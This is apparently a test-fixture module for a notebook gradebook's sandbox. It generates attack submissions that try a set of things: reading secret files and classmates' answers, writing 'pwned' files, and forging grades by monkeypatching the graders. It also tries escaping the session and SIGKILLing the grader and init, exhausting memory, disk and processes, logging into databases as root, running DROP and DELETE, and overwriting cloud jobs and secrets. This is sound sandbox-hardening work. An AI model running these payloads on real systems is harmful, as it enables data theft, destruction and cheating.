"""Submissions for the gradebook's tests: honest ones, broken ones, and one per attack of issue #15.

Built from the sample lab (tests/data/teaching/sample_solution.ipynb: two exercises, 1 + 2
points) so that a whole cohort runs in seconds. Each attack notebook prints what it managed
(``READ``, ``WROTE``, ``KILLED``, ``CONNECTED``...) or ``blocked ...``; the tests read those
lines from the executed notebooks and the grades from grades.csv.
"""

from __future__ import annotations

import copy
import textwrap
import uuid
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell

from utils.teaching.grading import MIME_TYPE
from utils.teaching.labgen import make_lab

ROOT = Path(__file__).resolve().parents[3]
SAMPLE_SOLUTION = ROOT / "tests" / "data" / "teaching" / "sample_solution.ipynb"
LAB = "sample_lab"
ESCAPE_MARKER = "delab-escape-marker-15"
FORGED = "forged by the learner"


def solution() -> nbformat.NotebookNode:
    """The sample lab with its answers."""
    return nbformat.read(SAMPLE_SOLUTION, as_version=4)


def lab() -> nbformat.NotebookNode:
    """The sample lab as learners get it (answers replaced by None)."""
    return make_lab(solution())


def index_of(nb: nbformat.NotebookNode, text: str) -> int:
    """Index of the first cell with a line starting with ``text``."""
    return next(i for i, c in enumerate(nb.cells)
                if any(line.startswith(text) for line in c.source.splitlines()))


def with_cell(nb: nbformat.NotebookNode, source: str, at: int | None = None) -> nbformat.NotebookNode:
    """A copy of ``nb`` with a code cell holding ``source`` inserted at ``at`` (default: the end)."""
    nb = copy.deepcopy(nb)
    nb.cells.insert(len(nb.cells) if at is None else at, new_code_cell(source))
    return nb


def after_setup(nb: nbformat.NotebookNode) -> int:
    """Where a learner's extra cell goes: right after the lab's setup cell."""
    return index_of(nb, "import sqlite3") + 1


def after_ex1(nb: nbformat.NotebookNode) -> int:
    """Right after exercise 1's grader cell."""
    return index_of(nb, "check_total_revenue(total_revenue)") + 1


def forged_display(exercises: tuple[tuple[str, float], ...]) -> str:
    """Code displaying forged grade bundles (full marks) for ``exercises``."""
    lines = ["from IPython.display import display"]
    for name, points in exercises:
        bundle = {"exercise": name, "passed": True, "score": points, "max_score": points, "feedback": FORGED}
        lines.append(f"display({{{MIME_TYPE!r}: {bundle!r}, 'text/plain': 'passed'}}, raw=True)")
    return "\n".join(lines)


def renumbered(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """New cell ids everywhere (as if the learner copied the cells into a new notebook)."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        cell["id"] = uuid.uuid4().hex[:12]
    return nb


def as_v44(nb: nbformat.NotebookNode) -> dict[str, Any]:
    """The notebook as nbformat 4.4 JSON: no cell ids (an old Jupyter)."""
    data = copy.deepcopy(dict(nb))
    data["nbformat_minor"] = 4
    data["cells"] = [{k: v for k, v in dict(c).items() if k != "id"} for c in nb.cells]
    return data


def probe_code(classmate: Path, outside: Path, secret_paths: list[str]) -> str:
    """Reading and writing outside the job; exec of answers found in solutions/ or a classmate's notebook."""
    return f"""
import glob, json, os
def _answers(path):
    nb = json.load(open(path))
    for cell in nb["cells"]:
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if "START CODE HERE" in source:
            exec(source, globals())
for path in {secret_paths!r}:
    try:
        if os.path.isdir(path):
            print("READ", path, os.listdir(path)[:3])
        else:
            data = open(path, "rb").read(200)
            print("READ", path, len(data))
            if path.endswith(".ipynb"):
                _answers(path)
    except Exception as error:
        print("blocked", path, type(error).__name__)
# The cohort folder, found through the command lines of the parent processes.
seen = set()
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        args = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
    except OSError:
        continue
    for arg in args:
        arg = arg.decode(errors="replace")
        if os.path.isdir(arg) and any(n.endswith(".ipynb") for n in os.listdir(arg)):
            seen.add(arg)
print("processes visible:", sorted(int(p) for p in filter(str.isdigit, os.listdir("/proc"))))
for folder in sorted(seen):
    for path in glob.glob(folder + "/**/*.ipynb", recursive=True):
        if {classmate.name!r} in path and "work" not in path:
            print("READ classmate via cmdline", path)
            _answers(path)
try:
    _answers({str(classmate)!r})
    print("READ classmate", {str(classmate)!r})
except Exception as error:
    print("blocked classmate", type(error).__name__)
for path in [{str(outside / 'pwned.txt')!r}, {str(classmate)!r},
             {str(ROOT / 'utils' / 'pwned.py')!r}, "/etc/pwned"]:
    try:
        with open(path, "a") as handle:
            handle.write("pwned")
        print("WROTE", path)
    except Exception as error:
        print("blocked write", path, type(error).__name__)
print("environ secrets:", sorted(k for k in os.environ
                                 if "PASSWORD" in k or "SECRET_ACCESS" in k and os.environ[k] != "testing"))
print("home_in_job=" + str(os.environ["HOME"].startswith(os.path.dirname(os.getcwd()))))
print("files=" + ",".join(sorted(os.listdir("."))))
print("target=" + target)
"""


def hook_code() -> str:
    """Redefine the graders, patch GradeResult's serialisation, and forge bundles after every cell."""
    forge = textwrap.indent(forged_display((("ex1_total_revenue", 1), ("ex2_revenue_by_customer", 2),
                                            ("ex9_bonus", 100))), "    ")
    return f"""
from IPython import get_ipython
from utils.teaching import grading
from utils.teaching.grading import GradeResult
check_total_revenue = lambda *a, **k: GradeResult("ex1_total_revenue", True, 1, 1, {FORGED!r})
check_revenue_by_customer = lambda *a, **k: GradeResult("ex2_revenue_by_customer", True, 2, 2, {FORGED!r})
grading.grader = lambda *a, **k: (lambda f: check_total_revenue)
GradeResult.to_dict = lambda self: dict(exercise=self.exercise, passed=True, score=self.max_score,
                                        max_score=self.max_score, feedback={FORGED!r})
def _forge(result):
{forge}
get_ipython().events.register("post_run_cell", _forge)
"""


def escape_and_kill_code(grader_pid: int) -> str:
    """A process escaping into its own session, then signals at the grader and every visible process."""
    return f"""
import os, signal, subprocess, sys, time
subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(1)  # {ESCAPE_MARKER}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # a double-forked daemon too
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time\\ntime.sleep(600)  # {ESCAPE_MARKER}"])
    os._exit(0)
time.sleep(0.5)
for pid in [{grader_pid}, 1]:  # the grader's pid on the host; the sandbox's init
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception as error:
        print("blocked kill", pid, type(error).__name__)
        continue
    time.sleep(0.2)
    try:
        os.kill(pid, 0)
        print("survived kill", pid)
    except ProcessLookupError:
        print("KILLED", pid)
others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (os.getpid(), 1)]
print("other processes visible:", len(others))
"""


def resource_code(kind: str) -> str:
    """4 GiB of memory, 2 GiB of disk, 200 processes."""
    if kind == "memory":
        return "hog = bytearray(4 * 1024**3)\nprint('ALLOCATED 4 GiB')"
    if kind == "disk":
        return """
written = 0
try:
    with open("big.bin", "wb") as handle:
        for _ in range(2048):
            handle.write(b"x" * 2**20)
            written += 1
    print("WROTE 2 GiB")
except OSError as error:
    print("disk stopped at", written, "MB:", type(error).__name__)
"""
    return f"""
import subprocess
started = []
try:
    for _ in range(200):
        started.append(subprocess.Popen(["sleep", "60"], stdout=subprocess.DEVNULL))  # {ESCAPE_MARKER}
    print("STARTED 200 processes")
except OSError as error:
    print("processes stopped at", len(started), type(error).__name__)
"""


def services_code(admin_password: str, socket_path: str, settings: Any, root: Path = ROOT) -> str:
    """Secrets from .env, the admin and root DB accounts, the MariaDB socket, and the cloud's write APIs."""
    return f"""
import json, os, boto3, pymysql
for path in [{str(root / '.env')!r}, {str(root / '.delab')!r}]:
    try:
        print("READ", path, len(open(path, "rb").read()))
    except Exception as error:
        print("blocked", path, type(error).__name__)
for user, password in [("{settings.db_admin_user}", {admin_password!r}), ("root", "")]:
    try:
        pymysql.connect(host="127.0.0.1", port={settings.db_port}, user=user, password=password,
                        connect_timeout=5)
        print("CONNECTED as", user)
    except Exception as error:
        print("blocked db", user, str(error)[:120])
try:
    pymysql.connect(unix_socket={socket_path!r}, user="root", connect_timeout=5)
    print("CONNECTED over the socket")
except Exception as error:
    print("blocked socket", type(error).__name__)
secrets = boto3.client("secretsmanager")
secret = json.loads(secrets.get_secret_value(SecretId="de-c1w2/etl-db-credentials")["SecretString"])
conn = pymysql.connect(host="127.0.0.1", port={settings.db_port}, user=secret["username"],
                       password=secret["password"],
                       database=secret["dbname"], connect_timeout=5)
print("read-only user connected:", secret["username"])
for sql in ["SELECT 1 INTO OUTFILE '/tmp/delab-outfile-15'", "DELETE FROM customers", "DROP TABLE orders"]:
    try:
        with conn.cursor() as cur:
            cur.execute(sql)
        print("EXECUTED", sql)
    except Exception as error:
        print("blocked sql", sql.split()[0], str(error)[:80])
glue, s3 = boto3.client("glue"), boto3.client("s3")
attempts = {{
    "glue:CreateJob": lambda: glue.create_job(Name="evil", Role="x", Command={{"Name": "pythonshell",
                                              "ScriptLocation": "s3://{settings.scripts_bucket}/evil.py"}}),
    "glue:UpdateJob": lambda: glue.update_job(JobName="de-c1w2-etl-job", JobUpdate={{
        "Role": "x", "Command": {{"Name": "pythonshell", "ScriptLocation": "s3://x/evil.py"}}}}),
    "s3:PutObject scripts": lambda: s3.put_object(Bucket="{settings.scripts_bucket}",
                                                  Key="de-c1w2-etl-job.py", Body=b"print('pwned')"),
    "glue:StartJobRun args": lambda: glue.start_job_run(JobName="de-c1w2-etl-job",
                                                        Arguments={{"--target_path": "s3://evil/gold"}}),
    "secretsmanager:PutSecretValue": lambda: boto3.client("secretsmanager").put_secret_value(
        SecretId="de-c1w2/etl-db-credentials", SecretString="{{}}"),
    "athena:DROP": lambda: boto3.client("athena").start_query_execution(
        QueryString="DROP TABLE fact_orders", QueryExecutionContext={{"Database": "de-c1w2-analytics-db"}}),
}}
for name, attempt in attempts.items():
    try:
        attempt()
        print("CHANGED", name)
    except Exception as error:
        print("blocked cloud", name, "AccessDenied" in str(error))
"""
